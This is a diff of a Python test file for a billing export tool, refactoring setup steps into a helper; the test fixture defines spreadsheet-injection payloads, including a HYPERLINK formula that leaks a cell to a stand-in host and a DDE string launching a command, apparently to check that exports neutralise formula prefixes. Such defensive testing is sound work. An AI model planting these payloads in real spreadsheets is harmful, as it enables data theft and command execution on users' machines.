@@ -15,7 +15,7 @@ from pathlib import Path
 from openpyxl import load_workbook
 
 from hallmon.exports import FORMULA_PREFIXES
-from tests.billing_helpers import write_hall
+from tests.billing_helpers import load_files, write_hall
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
 CMD = "+cmd|' /C calc'!A0"
@@ -77,15 +77,7 @@ def hostile_hall(cli, tmp_path: Path) -> dict[str, Path]:
         f'B-1,2024-03,LATE,"{LINK.replace(chr(34), chr(34) * 2)}",-2.5,A,2024-03-05,{CMD}\n'
         f"B-1,2024-03,DRESS,{AT},-5,B,2024-03-12,{MARKUP}\n"
         f"B-1,2024-03,DRESS,着装仪容,-5,B,2024-03-20,{FULLWIDTH}\n", encoding="utf-8")
-    steps = [("contract", "load", files["terms"]), ("ingest", "staff", files["staff"]),
-             ("ingest", "punches", files["punches"]), ("ingest", "assessment", files["assessment"]),
-             ("ingest", "notices", files["notices"])]
-    for step in steps:
-        result = cli(*step)
-        assert result.exit_code == 0, (step, result.stderr)
-    for name, role, extra in (("wang", "manager", ()), ("li", "finance", ()), ("zhao", "finance", ()),
-                              ("co", "contractor", ("--contractor", "测试人力资源有限公司"))):
-        assert cli("user", "add", name, "--role", role, *extra, "--password", f"{name}-password").exit_code == 0
+    load_files(cli, files)
     gate = ["gate"]
     for args in (["submit", "--user", "wang", "--report", files["report"]], ["verify", "--user", "li"],
                  ["object", "--user", "co", "--line", "assessment", "--text", LINK + MARKUP],
